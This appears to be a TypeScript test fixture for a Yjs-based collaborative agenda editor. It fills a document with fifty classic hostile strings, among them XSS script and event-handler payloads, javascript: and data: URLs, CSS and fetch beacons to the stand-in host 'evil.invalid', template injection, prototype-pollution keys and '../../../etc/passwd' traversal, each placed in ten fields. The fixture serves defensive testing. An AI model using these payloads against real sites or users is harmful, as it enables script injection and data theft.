import { agendaKey, agendaOf, blocksOf, fieldKey, newId, schemaVersion } from '@lea/agenda'
import * as Y from 'yjs'

/** Where everything points that would like to be fetched. Nothing listens there. */
export const elsewhere = 'evil.invalid'

const code = 'globalThis.hostile=1'
const fetching = `fetch('https://${elsewhere}/x')`

/** What people put in pages that show what they typed, each to be written in every place that takes words. */
const classics: readonly string[] = [
  `<script>${code}</script>`,
  `<script src="https://${elsewhere}/x.js"></script>`,
  `<img src=x onerror="${code}">`,
  `<img src="https://${elsewhere}/x.png">`,
  `<svg onload="${code}"><use href="https://${elsewhere}/x.svg#a"/></svg>`,
  `<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>`,
  `<body onpageshow=${code}>`,
  `<a href="javascript:${code}">x</a>`,
  `<math><mtext><mglyph><style><img src=x onerror=${code}>`,
  `<template><script>${code}</script></template>`,
  `"><script>${code}</script>`,
  `' onmouseover='${code}' x='`,
  `\`\${${code}}\``,
  `{{constructor.constructor('${code}')()}}`,
  `</style><style>*{background:url(https://${elsewhere}/x)}</style>`,
  `url(https://${elsewhere}/x)`,
  `red;background:url(https://${elsewhere}/x)`,
  `expression(${code})`,
  `@import "https://${elsewhere}/x.css";`,
  `<link rel=stylesheet href=https://${elsewhere}/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://${elsewhere}/x">`,
  `<base href=https://${elsewhere}/>`,
  `<form action=https://${elsewhere}/><button>x</button></form>`,
  `<object data="data:text/html,<script>${code}</script>">`,
  `<details open ontoggle=${fetching}>`,
  `javascript:${code}`,
  ` \u0001javascript:${code}`,
  `java\tscript:${code}`,
  `JaVaScRiPt:${code}//`,
  `data:text/html,<script>${code}</script>`,
  `data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLmhvc3RpbGU9MTwvc2NyaXB0Pg==`,
  `vbscript:${code}`,
  `blob:https://${elsewhere}/x`,
  `//${elsewhere}/x`,
  `\\\\${elsewhere}\\x`,
  `file:///etc/passwd`,
  '__proto__',
  'constructor',
  'prototype.polluted',
  'toString',
  '\u202etxt.exe',
  '\u2066\u2067Anna\u2069',
  '\u0000\u0001\u001b[31m',
  `A${'\u0301'.repeat(400)}`,
  'W'.repeat(20_000),
  '=HYPERLINK("https://evil.invalid/x")',
  '%s%s%n%x',
  '\ud83d',
  '../../../etc/passwd',
  '<%= 7*7 %>#{7*7}',
]

type Place = (blocks: Y.Map<Y.Map<unknown>>, words: string, at: number) => void

/** Writes a block as a client that keeps to no rule: what is given stands in it as it is. */
function put(blocks: Y.Map<Y.Map<unknown>>, at: number, content: Record<string, unknown>, id = newId()): void {
  const block = new Y.Map<unknown>()
  const position = { parent: null, order: `a${at.toString(36).padStart(4, '0')}V`, clock: 1, previousParent: null }
  const written = { type: 'section', pos: position, title: prose('Titel'), body: prose('Tekst'), ...content }
  for (const [key, value] of Object.entries(written)) block.set(key, value)
  blocks.set(id, block)
}

function prose(words: string, marks: Record<string, unknown> = {}): Y.XmlFragment {
  const fragment = new Y.XmlFragment()
  const line = new Y.XmlElement('paragraph')
  const text = new Y.XmlText()
  text.applyDelta([{ insert: words, attributes: marks }])
  line.insert(0, [text])
  fragment.insert(0, [line])
  return fragment
}

function element(name: string, attributes: Record<string, string>): Y.XmlFragment {
  const fragment = new Y.XmlFragment()
  const foreign = new Y.XmlElement(name)
  for (const [key, value] of Object.entries(attributes)) foreign.setAttribute(key, value)
  foreign.insert(0, [new Y.XmlText(code)])
  fragment.insert(0, [foreign])
  return fragment
}

const written = (value: unknown) => ({ v: value, by: '\u202eAnna', clock: 1 })

/** The ten places in which each of the fifty is written: 500 in all. */
const places: readonly Place[] = [
  (blocks, words, at) => put(blocks, at, { title: prose(words), body: prose(words, { bold: {}, [words]: words }) }),
  (blocks, words, at) => put(blocks, at, { body: prose('een link', { link: { href: words } }) }),
  (blocks, words, at) =>
    put(blocks, at, { body: prose('een link', { link: { href: `https://a.example/"${words}`, onclick: code } }) }),
  (blocks, words, at) => put(blocks, at, { body: element('script', { src: words, onload: code, style: words }) }),
  (blocks, words, at) =>
    put(blocks, at, {
      type: 'action',
      [fieldKey('status', words)]: written(words),
      [fieldKey('planning', 'x')]: written({ words, start: words, end: words }),
    }),
  (blocks, words, at) =>
    put(blocks, at, {
      type: 'partner',
      title: prose(words),
      [fieldKey('shortName', 'x')]: written(words),
      [fieldKey('board', words)]: written({ __proto__: words }),
    }),
  (blocks, words, at) => put(blocks, at, { type: words, deleted: undefined, [words]: words }),
  (blocks, words, at) => put(blocks, at, { deleted: { clock: 1, by: words, group: words }, title: prose(words) }),
  (blocks, words, at) => put(blocks, at, { pos: { parent: words, order: words, clock: words, previousParent: words } }),
  (blocks, words, at) => put(blocks, at, {}, words === '' ? newId() : `${words.slice(0, 200)}${at}`),
]

/** How many hostile words `fillHostile` writes. */
export const hostileCount = classics.length * places.length

/** Fills a document with what a hostile client could write straight into it. */
export function fillHostile(doc: Y.Doc): void {
  doc.transact(() => {
    const agenda = agendaOf(doc)
    agenda.set(agendaKey.schemaVersion, schemaVersion)
    agenda.set(fieldKey('title', 'x'), written(`Agenda <script>${code}</script>`))
    agenda.set(fieldKey('sectionLabel', 'x'), written(`<img src=x onerror=${code}>`))
    agenda.set('__proto__', { polluted: true })
    const blocks = blocksOf(doc)
    put(blocks, 0, { title: prose('Het begin') })
    let at = 1
    for (const place of places) for (const words of classics) place(blocks, words, at++)
    // things that are no block at all
    const foreign = blocks as unknown as Y.Map<unknown>
    for (const [name, value] of Object.entries({ __proto__2: 1, text: code, list: [code], constructor: code }))
      foreign.set(name, value)
    foreign.set('__proto__', new Y.Map())
  })
}
